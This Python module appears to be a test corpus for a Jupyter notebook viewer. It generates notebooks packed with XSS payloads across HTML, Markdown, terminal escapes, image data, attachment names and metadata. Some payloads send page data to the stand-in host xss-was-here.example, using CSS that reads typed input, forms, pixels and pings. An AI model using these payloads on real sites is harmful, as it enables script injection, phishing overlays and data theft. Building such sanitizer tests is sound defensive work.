"""Notebooks that try to run, load or leak something from the page on which they are shown.

Each is nbformat 4 as `sandbox.outputs.write_notebook` gives it, which a student's code and text may fill at will. What
runs calls `alert`, sets the title to MARK or asks for an address on MARK's host: a browser can tell.
"""

import base64
import json
from collections.abc import Mapping, Sequence

MARK = "xss-was-here"
RUN = f"document.title='{MARK}';alert('{MARK}')"
HOST = f"{MARK}.example"
PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

Cell = dict[str, object]


def code(source: str = "", *, outputs: Sequence[Mapping[str, object]] = ()) -> Cell:
    return {"cell_type": "code", "id": "a", "metadata": {}, "source": source, "outputs": list(outputs)}


def prose(source: str, **more: object) -> Cell:
    return {"cell_type": "markdown", "id": "b", "metadata": {}, "source": source, **more}


def shown(**data: object) -> Mapping[str, object]:
    return {"output_type": "display_data", "metadata": {}, "data": {k.replace("_", "/"): v for k, v in data.items()}}


def stream(text: object, name: str = "stdout") -> Mapping[str, object]:
    return {"output_type": "stream", "name": name, "text": text}


def notebook(*cells: Mapping[str, object], **more: object) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells), **more}).encode()


HTML: Mapping[str, str] = {
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": f'<script src="//{HOST}/x.js"></script>',
    "a script in odd case with a slash": f"<ScRiPt/x>{RUN}</sCrIpT >",
    "a script that is cut off": f"<script>{RUN}//",
    "an image that fails": f'<img src=x onerror="{RUN}">',
    "an image with a slash for a space": f'<img/src=x/onerror="{RUN}">',
    "an image with a tag in an attribute": f"<img alt='>' src=x onerror=\"{RUN}\">",
    "an image that tells who reads": f'<img src="https://{HOST}/pixel.gif">',
    "an image with a set of sources": f'<img srcset="https://{HOST}/2x.gif 2x" src=x>',
    "a passive tag with a handler": f'<b onmouseover="{RUN}" style="position:fixed;inset:0">here</b>',
    "details that open themselves": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "an SVG with a handler": f'<svg onload="{RUN}"><circle r=1 /></svg>',
    "an SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "an SVG that animates an address": "<svg><a><animate attributeName=href values=javascript:a() /></a></svg>",
    "an SVG with foreign content": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "an SVG that uses another": f'<svg><use href="https://{HOST}/x.svg#a"/></svg>',
    "MathML with an address": f'<math href="javascript:{RUN}">x</math>',
    "MathML that hides an image": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">'
    ),
    "a style that hides an image": f'<style><a title="</style><img src=x onerror={RUN}>">',
    "a style that loads": f'<style>@import "https://{HOST}/x.css"; body{{background:url(https://{HOST}/y)}}</style>',
    "a link to a style": f'<link rel=stylesheet href="https://{HOST}/x.css">',
    "a style attribute": f'<div style="background:url(https://{HOST}/z);position:fixed">x</div>',
    "a frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "an object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "an embedded file": f'<embed src="https://{HOST}/x.svg">',
    "a base for all links": f'<base href="https://{HOST}/">',
    "a redirection": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    "a form": f'<form action="https://{HOST}/"><input name=q autofocus onfocus="{RUN}"><button>ok</button></form>',
    "a password field": '<input type="password" name="password">',
    "a link that runs": f'<a href="javascript:{RUN}">x</a>',
    "a link that runs, in entities": '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    "a link that runs, with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a link with a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "a link to a document in data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "a link that reports clicks": f'<a href="https://ok.example/" ping="https://{HOST}/">x</a>',
    "ids that shadow the page's": '<img id="cookie" name="getElementById" src=x><form id=cell-1></form>',
    "ends of elements that are the page's": f"</div></details></section></main></body></html><script>{RUN}</script>",
    "a comment that ends early": f"<!--><script>{RUN}</script>-->",
    "a comment of the old kind": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "a processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "character data": f"<![CDATA[<script>{RUN}</script>]]>",
    "a template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a text area that hides": f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    "a title that hides": f'<title><img title="</title><img src=x onerror={RUN}>">',
    "plain text to the end": f"<plaintext><script>{RUN}</script>",
    "htmx": f'<div hx-get="https://{HOST}/" hx-trigger="load" data-hx-get="/sign-out">x</div>',
    "a tag cut by a null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "a script as a module": f'<script type="module">{RUN}</script><script nomodule>{RUN}</script>',
    "a script in data": f'<script src="data:text/javascript,{RUN}"></script>',
    "a script of another namespace": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "scripts by a map": f'<script type="importmap">{{"imports": {{"a": "https://{HOST}/a.js"}}}}</script>',
    "rules for pages to load ahead": (
        f'<script type="speculationrules">{{"prefetch": [{{"urls": ["https://{HOST}/"]}}]}}</script>'
    ),
    "handlers that need no click": (
        f'<body onload="{RUN}" onpageshow="{RUN}"><marquee onstart="{RUN}">x</marquee>'
        f'<select autofocus onfocus="{RUN}"></select><p contenteditable autofocus onfocus="{RUN}">x</p>'
    ),
    "a handler that waits": f'<style>@keyframes x{{}}</style><b style="animation:x" onanimationend="{RUN}">x',
    "a popover": f'<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{RUN}">y</div>',
    "a dialog over the page": f'<dialog open onclose="{RUN}"><form method=dialog><button>ok</button></form></dialog>',
    "a shadow of its own": f'<div><template shadowrootmode="open"><script>{RUN}</script><slot></slot></template></div>',
    "an element of its own": f'<x-y is="z" onclick="{RUN}">x</x-y>',
    "an image that says no-cors": f'<img src="https://{HOST}/a.gif" crossorigin ismap usemap="#m" lowsrc="//{HOST}/b">',
    "a picture with sources": f'<picture><source srcset="//{HOST}/a.webp"><img src="//{HOST}/a.gif"></picture>',
    "a film with a poster": (
        f'<video src="//{HOST}/v" poster="//{HOST}/p" autoplay onerror="{RUN}"><track src="//{HOST}/t"></video>'
    ),
    "a sound": f'<audio src="//{HOST}/a" autoplay onloadstart="{RUN}"></audio><bgsound src="//{HOST}/b">',
    "a button that is an image": f'<input type="image" src="//{HOST}/i.gif" onerror="{RUN}">',
    "a background of the old kind": f'<table background="//{HOST}/a"><td background="//{HOST}/b">x</table>',
    "a frame from elsewhere": f'<iframe src="//{HOST}/" onload="{RUN}"></iframe><frameset><frame src="//{HOST}/f">',
    "a frame that runs": f'<iframe src="javascript:{RUN}"></iframe>',
    "a frame in data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "an image in data that is a page": f'<img src="data:text/html,<script>{RUN}</script>">',
    "an image in data that is an SVG": f"<img src=\"data:image/svg+xml,<svg xmlns='x' onload='{RUN}'/>\">",
    "an applet": f'<applet code="javascript:{RUN}" archive="//{HOST}/a.jar"></applet>',
    "a map of links": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap="#m" src=x>',
    "a button that sends elsewhere": (
        f'<form id=f></form><button form=f formaction="javascript:{RUN}">x</button>'
        f'<input type=submit formaction="https://{HOST}/" value=y>'
    ),
    "a field that tells what is typed": f'<form action="//{HOST}/"><textarea name=q autofocus>x</textarea></form>',
    "a link out of the frame": f'<a href="https://{HOST}/" target="_top" rel="opener">x</a><base target="_top">',
    "a link to keep": f'<a href="https://{HOST}/x" download="x.html">x</a>',
    "links that load ahead": (
        f'<link rel="prefetch" href="//{HOST}/a"><link rel="preconnect" href="//{HOST}/"><link rel="dns-prefetch"'
        f' href="//{HOST}/"><link rel="modulepreload" href="//{HOST}/m.js"><link rel="icon" href="//{HOST}/i">'
    ),
    "a manifest": f'<link rel="manifest" href="//{HOST}/m.json"><link rel="import" href="//{HOST}/i.html">',
    "a policy of its own": (
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'
        f'<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url"><script>{RUN}</script>'
    ),
    "a colour of the browser": '<meta name="theme-color" content="red"><meta name="color-scheme" content="dark">',
    "an SVG that sets a handler": f'<svg><rect width=9 height=9 /><set attributeName="onmouseover" to="{RUN}"/></svg>',
    "an SVG that begins by itself": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "an SVG with a link": f'<svg><a xlink:href="javascript:{RUN}" href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "an SVG with an image": f'<svg><image href="https://{HOST}/i" xlink:href="//{HOST}/j" /></svg>',
    "an SVG with a style": f"<svg><style>@import '//{HOST}/s'; *{{fill:url(//{HOST}/f)}}</style></svg>",
    "an SVG with a filter": f'<svg><filter id=f><feImage href="//{HOST}/f"/></filter><rect filter="url(#f)"/></svg>',
    "an SVG with entities": f'<!DOCTYPE svg [<!ENTITY x "<script>{RUN}</script>">]><svg><text>&x;</text></svg>',
    "an SVG with a style sheet": f'<?xml-stylesheet href="//{HOST}/s.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "an SVG that hides in a style": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "an SVG that hides in a title": f'<svg><title><a title="</title><img src=x onerror={RUN}>">',
    "an SVG that hides in a description": f'<svg><desc><svg><style><a id="</style></desc><img src=x onerror={RUN}>">',
    "MathML with an action": f'<math><maction actiontype=toggle xlink:href="javascript:{RUN}">x</maction></math>',
    "MathML with HTML inside": (
        f'<math><semantics><annotation-xml encoding="text/html"><script>{RUN}</script><img src=x onerror="{RUN}">'
        "</annotation-xml></semantics></math>"
    ),
    "MathML that moves a form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style></mglyph></form>"
    ),
    "MathML with an image": f'<math><mglyph src="//{HOST}/m" alt=x /><ms style="background:url(//{HOST}/n)">x</ms>',
    "a style that reads what is typed": f"<style>input[value^=a]{{background:url(//{HOST}/a)}}</style><input value=a>",
    "a style that loads letters": f"<style>@font-face{{font-family:x;src:url(//{HOST}/f)}}*{{font-family:x}}</style>x",
    "a style in escapes": f"<b style=\"background:u\\72l('//{HOST}/e'); background:image-set('//{HOST}/s' 1x)\">x</b>",
    "a style of old browsers": (
        f'<b style="width:expression({RUN});behavior:url(//{HOST}/b);-moz-binding:url(//{HOST}/m)">x</b>'
    ),
    "a style over the page": "<style>*{display:none!important} body::after{content:'sign in again'}</style>",
    "a style sheet in data": f'<link rel=stylesheet href="data:text/css,*{{background:url(//{HOST}/d)}}">',
    "a cursor and a list mark": f'<ul style="list-style:url(//{HOST}/l);cursor:url(//{HOST}/c),auto"><li>x</ul>',
    "text that turns around": "<b>\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u2028</b>",
    "an attribute without quotes": f"<b title=x`onmouseover={RUN}` class=a/onclick={RUN}>x</b>",
    "attributes twice": f'<a href="https://ok.example" href="javascript:{RUN}" HREF=javascript:a()>x</a>',
    "a tag with a newline": f'<img\nsrc=x\nonerror\n=\n"{RUN}"\n>',
    "a tag with a form feed": f"<img\x0csrc=x\x0conerror={RUN}\x0c>",
    "a broken comment": f"<!-- --!><script>{RUN}</script><!--->",
    "a listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><xmp><script>{RUN}</script></xmp>",
    "frames and embeds that hide": f'<noembed><img title="</noembed><img src=x onerror={RUN}>"><noframes><script>x',
    "an option list": f"<select><option><script>{RUN}</script></option><keygen autofocus onfocus={RUN}></select>",
    "a table with handlers": f'<table onclick="{RUN}"><tr><td onclick="x()"><script>{RUN}</script></td></tr></table>',
    "a table around an image": f'<table><tr><td><img src=x onerror="{RUN}"></td></tr></table>',
    "a table as the page itself": '<table class="nb-cell" id="cell-1" style="position:fixed"><tr><td>1</table>',
    "a table with a style": f"<style>@import 'https://{HOST}/x.css'</style><table><td colspan=99999>1</table>",
}
"""HTML, by what it tries: in Markdown, as an output, and as what a page must show as text."""

MARKDOWN: Mapping[str, str] = {
    "a link that runs": f"[x](javascript:{RUN})",
    "a link that runs in odd case": "[x](JaVaScRiPt:alert(1))",
    "a link with an entity": "[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1))",
    "a link with a tab in its scheme": "[x](java&Tab;script:alert(1)) [y](java%09script:alert(1))",
    "a link with a null in its scheme": "[x](java\0script:alert(1))",
    "a link in angle brackets": "[x](<javascript:alert(1)>) [y](< javascript:alert(1)>)",
    "a link with a title that breaks out": f"[x](https://ok.example '\" onmouseover=\"{RUN}')",
    "an address that breaks out": f'[x](https://ok.example/"onmouseover="{RUN})',
    "a reference that runs": "[x]\n\n[x]: javascript:alert(1)",
    "vbscript, data and file": "[x](vbscript:a) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd)",
    "an address of no scheme": f"[x](//{HOST}/) [y](/sign-out) [z](\\\\{HOST}\\a) [w](#cell-1)",
    "links in links": f"[[x](https://a.example)](javascript:{RUN}) [a [b](javascript:x) c](https://b.example)",
    "an image in a link": f"[![x](https://{HOST}/a.gif)](javascript:{RUN})",
    "an autolink that runs": f"<javascript:{RUN}> <data:text/html,x>",
    "an autolink that breaks out": f'<https://ok.example/"onclick="{RUN}">',
    "an image from elsewhere": f"![x](https://{HOST}/a.gif)",
    "an image that runs": f"![x](javascript:{RUN}) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "an alternative text that breaks out": f'![" onerror="{RUN}](attachment:a.png)',
    "an alternative text with tags": f"![<img src=x onerror={RUN}>](attachment:a.png)",
    "a language that breaks out": f'```python"><script>{RUN}</script>\nx\n```',
    "a fence that is no fence": f"```\n<script>{RUN}</script>\n",
    "code in a line": f"`<script>{RUN}</script>` ``<img src=x onerror={RUN}>``",
    "a heading": f"# <script>{RUN}</script>\n<h1 id=cell-1>x</h1>",
    "a table": f"|<script>{RUN}</script>|b|\n|-|:-:|\n|<img src=x onerror={RUN}>|[x](javascript:x)|",
    "a formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\url{{javascript:{RUN}}}$$",
    "a formula with HTML": f"$\\htmlId{{cell-1}}{{x}}$ $<img src=x onerror={RUN}>$ $$</span><script>{RUN}</script>$$",
    "a formula that loads": f"$\\includegraphics{{https://{HOST}/a.png}}$",
    "an environment with HTML": f"\\begin{{align}}\n</div><script>{RUN}</script>\n\\end{{align}}",
    "a formula with a label": f'$$a$$ ("><script>{RUN}</script>)',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "HTML between blocks": f"<div>\n\n**a**\n\n<script>\n\n{RUN}\n\n</script>\n\n</div></div></div>",
    "HTML in pieces": f"<im<b>g src=x onerror={RUN}>\n<scr<script>ipt>{RUN}</script>",
    "a colon behind a backslash": "[x](javascript\\:alert(1)) [y](java\\script:alert(1))",
    "an address on the next line": f"[x](\njavascript:{RUN}\n) [y]: javascript:a",
    "an address that follows": f"[x][y]\n\n[y]: <javascript:{RUN}>\n    'a title'",
    "a reference to an image": f"![x][y]\n\n[y]: https://{HOST}/a.gif\n",
    "an image in data that is an SVG": f"![x](data:image/svg+xml,<svg onload={RUN}>) ![y](data:image/svg+xml;a,<svg/>)",
    "an image in data that is none": f"![x](data:image/png;base64,{base64.b64encode(RUN.encode() * 3).decode()})",
    "an image in data with more behind it": f'![x](data:image/gif;base64,{"A" * 60}" onerror="{RUN}")',
    "an image with a size": f'![x](attachment:a.png =1x1" onerror="{RUN})',
    "an address as mail": f'<a@ok.example"onclick="{RUN}> [x](mailto:a@ok.example?body=<script>{RUN}</script>)',
    "an address with a password": f"[x](https://user:{MARK}@ok.example/) [y](https:{HOST}) [z](https:/\\{HOST})",
    "an address in other letters": "[x](javascrıpt:alert(1)) [y](ｊavascript:alert(1)) [z](java\u200bscript:alert(1))",
    "percent signs": "[x](%6aavascript:alert(1)) [y](javascript%3Aalert(1)) [z](https://ok.example/%22onclick=%22a)",
    "emphasis in an address": f"[x](https://ok.example/*a*_b_<script>{RUN}</script>) *[y](javascript:a)*",
    "HTML of each kind of block": (
        f"<pre>\n<script>{RUN}\n\n</script></pre>\n\n<!DOCTYPE html>\n\n<?php x ?>\n\n<![CDATA[\nx\n]]>\n"
    ),
    "HTML in a list": f"* <img src=x\n  onerror={RUN}>\n* <script>\n\n  {RUN}\n  </script>\n1. </ol></ul></div>",
    "HTML in a quotation": f"> <script>\n> {RUN}\n{RUN}\n> </script>",
    "HTML in a link": f'[<img src=x onerror="{RUN}">](https://ok.example "<b onclick={RUN}>")',
    "a heading with an id": f'# x {{#cell-1 onclick="{RUN}"}}\n\nx\n===\n',
    "a footnote": f"x[^1]\n\n[^1]: <script>{RUN}</script> [y](javascript:a)",
    "a task and a directive": f"- [ ] <script>{RUN}</script>\n\n:::{{note}} {RUN}\n:::\n\n{{{{ {RUN} }}}} {{% raw %}}",
    "a diagram": f'```mermaid\nclick A "javascript:{RUN}"\n```\n\n```html\n<script>{RUN}</script>\n```',
    "a formula that defines": f"$\\def\\x{{\\href{{javascript:{RUN}}}{{y}}}}\\x$ $\\htmlData{{onclick={RUN}}}{{x}}$",
    "a formula with a style": "$\\htmlStyle{position:fixed;inset:0}{x} \\htmlClass{nb-cell}{y}$ $\\text{</span><b>}$",
    "a definition list of attributes": f'x {{: onclick="{RUN}" }}\n\n[y](https://ok.example){{onclick={RUN}}}',
}
"""Markdown, by what it tries."""

TERMINAL: Mapping[str, str] = {
    "a colour around a tag": f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    "a colour that breaks out": f'\x1b[31"onclick="{RUN}m x \x1b[38;5;"m',
    "a link of a terminal": f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "a tag in pieces": f"<scr\x1b[0mipt>{RUN}</scr\x1b[0mipt>",
    "a tag over a carriage return": f"<scri\rpt>\r<script>{RUN}</script>",
    "numbers without end": "\x1b[" + "9" * 50_000 + "m" + "\x1b[38;5;" + "1;" * 5_000 + "mx",
    "a colour of eight bits": f"\x9b31m<script>{RUN}</script>\x9b0m\x9d8;;javascript:{RUN}\x9cx",
    "a link that is left open": f'\x1b]8;id="onclick="{RUN};https://{HOST}/\x1b\\x',
    "an image of a terminal": f"\x1b]1337;File=inline=1:{base64.b64encode(RUN.encode()).decode()}\x07\x1bPq#0!9~\x1b\\",
    "a question to the terminal": "\x1b[c\x1b[6n\x1b]11;?\x07\x1b[>q\x1bP+q544e\x1b\\x",
    "a tag under backspaces": f"<scr\b\b\b<script>\b{RUN}</script>\x7f",
    "a cursor that goes back": f"<b\x1b[2D<i onclick={RUN}>\x1b[2K\x1b[1;1H\x1b[2J\x1b[?1049h",
    "colours in other numbers": "\x1b[38:2::1:2:3mx\x1b[38;5;999mx\x1b[48;2;1mx\x1b[-1mx\x1b[1;<b>mx\x1b[٣mx",
    "an escape that is cut off": "x\x1b",
    "a bracket that is cut off": f"<script>{RUN}</script>\x1b[",
    "a title that never ends": f"\x1b]0;<script>{RUN}</script>",
    "a title and the clipboard": "\x1b]0;x\x07\x1b]52;c;YWxlcnQoMSk=\x07",
}
"""What a program may print, by what it tries."""


def _in_outputs(text: str) -> list[Mapping[str, object]]:
    kinds = ("text_html", "image_svg+xml", "text_markdown", "text_latex", "application_javascript", "text_plain")
    return [
        *(shown(**{kind: text}) for kind in (*kinds, "image_png", "application_vnd.jupyter.widget-view+json")),
        stream(text),
        stream([text, "x"], name="stderr"),
        stream("x", name=text),
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        {"output_type": text, "data": {text: text}, "metadata": {text: text}},
    ]


def _names(text: str) -> bytes:
    picture = base64.b64encode(PIXEL).decode()
    attachments = {text: {"image/png": picture}, "a.png": {text: picture, "image/svg+xml": text}}
    described = {"tags": [text], "name": text, text: text, "collapsed": text}
    return notebook(
        prose(f"![{text}](attachment:a.png) ![x](<attachment:{text}>)", attachments=attachments, metadata=described),
        {"cell_type": text, "id": text, "metadata": described, "source": [text], "outputs": _in_outputs(text)},
        {**code(text, outputs=_in_outputs(text)), "id": text, "metadata": described, "execution_count": text},
        metadata={"kernelspec": {"name": text, "display_name": text}, "language_info": {"name": text}, "title": text},
    )


def _encode(data: bytes | str) -> str:
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


ACTIVE_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
PICTURES: Mapping[str, str] = {
    "an SVG": _encode(ACTIVE_SVG),
    "a page": _encode(f"<!doctype html><script>{RUN}</script>" * 3),
    "a GIF and then a page": _encode(PIXEL + f"<script>{RUN}</script>".encode()),
    "a GIF that is a script, too": _encode(b"GIF89a/*\x01\x00\x01\x00\x00\x00*/=1;" + RUN.encode()),
    "a PNG with a script in its words": _encode(
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0\0\0\0\0\0\0\0\x40tEXt" + ACTIVE_SVG.encode()
    ),
    "an address": f"https://{HOST}/a.png",
    "an address in data": f"data:image/svg+xml;base64,{_encode(ACTIVE_SVG)}",
    "no base64": f'"><script>{RUN}</script>',
}
"""What may stand where a picture should, by what it is."""


def _pictured(written: str) -> bytes:
    kinds = ("image/png", "image/jpeg", "image/gif", "image/svg+xml", "image/webp", "application/pdf", "text/html")
    return notebook(
        prose(
            f"![x](attachment:a.png) ![y](data:image/png;base64,{written})",
            attachments={"a.png": {"image/png": written}},
        ),
        *(prose("![x](attachment:a.png)", attachments={"a.png": {kind: written}}) for kind in kinds),
        code(outputs=[{"output_type": "display_data", "metadata": {}, "data": {kind: written}} for kind in kinds]),
    )


ATTACHMENT_NAMES = (
    "../../sign-out",
    "%2e%2e/a.png",
    "//" + HOST + "/a.png",
    f"https://{HOST}/a.png",
    f"javascript:{RUN}",
    "data:image/svg+xml,<svg onload=alert(1)>",
    'a.png" onerror="' + RUN,
    f"a.png)<img src=x onerror={RUN}>",
    "a\u202egnp.png",
    "a\0.png",
    "a.png\nx: y",
    "a" * 5_000,
)
"""What may stand where the name of a pasted picture should."""

DESCRIBED: Mapping[str, bytes] = {
    "trust, sizes and places": notebook(
        {
            **code(f"'<script>{RUN}</script>'", outputs=_in_outputs(f"<script>{RUN}</script>")),
            "metadata": {
                "trusted": True,
                "collapsed": f"<script>{RUN}</script>",
                "jupyter": {"source_hidden": f"x' onclick='{RUN}"},
                "slideshow": {"slide_type": f'"><script>{RUN}</script>'},
                "execution": {"iopub.status.busy": f"<script>{RUN}</script>"},
            },
        },
        code(
            outputs=[
                {
                    "output_type": "execute_result",
                    "execution_count": f"<script>{RUN}</script>",
                    "data": {"image/png": _encode(PIXEL), "text/html": f"<script>{RUN}</script>"},
                    "metadata": {
                        "isolated": True,
                        "image/png": {
                            "width": f'1" onerror="{RUN}',
                            "height": "1px;position:fixed",
                            "unconfined": True,
                        },
                    },
                }
            ]
        ),
        metadata={"trusted": True, "language_info": {"pygments_lexer": f"html'><script>{RUN}</script>"}},
    ),
    "the state of widgets": notebook(
        code(
            outputs=[
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/plain": "HTML()"},
                }
            ]
        ),
        metadata={
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "state": {
                        "a": {
                            "model_module": f"https://{HOST}/widgets.js",
                            "model_name": "HTMLModel",
                            "state": {"value": f"<script>{RUN}</script>"},
                        }
                    }
                }
            }
        },
    ),
    "kinds that others draw": notebook(
        code(
            outputs=[
                {"output_type": "display_data", "metadata": {}, "data": {kind: value}}
                for kind in (
                    "application/vnd.plotly.v1+json",
                    "application/vnd.vegalite.v5+json",
                    "application/vnd.bokehjs_exec.v0+json",
                    "application/geo+json",
                    "application/xhtml+xml",
                    "text/xml",
                    "text/vnd.mermaid",
                    "video/mp4",
                    f"text/html; x=<script>{RUN}</script>",
                    "TEXT/HTML",
                )
                for value in (f"<script>{RUN}</script>", {"layout": {"title": f"<script>{RUN}</script>"}}, [[RUN]])
            ]
        )
    ),
    "names of pasted pictures": notebook(
        *(
            prose(
                f"![x](<attachment:{name}>) ![y](attachment:{name})", attachments={name: {"image/png": _encode(PIXEL)}}
            )
            for name in ATTACHMENT_NAMES
        )
    ),
}
"""Metadata and kinds of outputs, by what they try."""

FILE_NAMES = (
    f"<img src=x onerror={RUN}>.ipynb",
    f'"><script>{RUN}</script>.ipynb',
    f"' onmouseover='{RUN}' x='.ipynb",
    "{{ 7 * 7 }}{% raw %}.ipynb",
    "&lt;b&gt;&#60;i&#62;.ipynb",
    "a\u202egnp.ipynb",
)
"""What a file may be called that somebody hands in."""

CORPUS: Mapping[str, bytes] = {
    **{f"HTML in Markdown: {name}": notebook(prose(text), prose(f"a {text} b")) for name, text in HTML.items()},
    **{f"HTML in an output: {name}": notebook(code(text, outputs=_in_outputs(text))) for name, text in HTML.items()},
    **{f"names and metadata: {name}": _names(text) for name, text in HTML.items()},
    **{
        f"Markdown: {name}": notebook(prose(text), code(outputs=[shown(text_markdown=text, text_latex=text)]))
        for name, text in MARKDOWN.items()
    },
    **{f"a picture: {name}": _pictured(written) for name, written in PICTURES.items()},
    **{f"metadata: {name}": data for name, data in DESCRIBED.items()},
    **{f"a terminal: {name}": notebook(code(text, outputs=_in_outputs(text))) for name, text in TERMINAL.items()},
}
"""All notebooks, by what they try."""
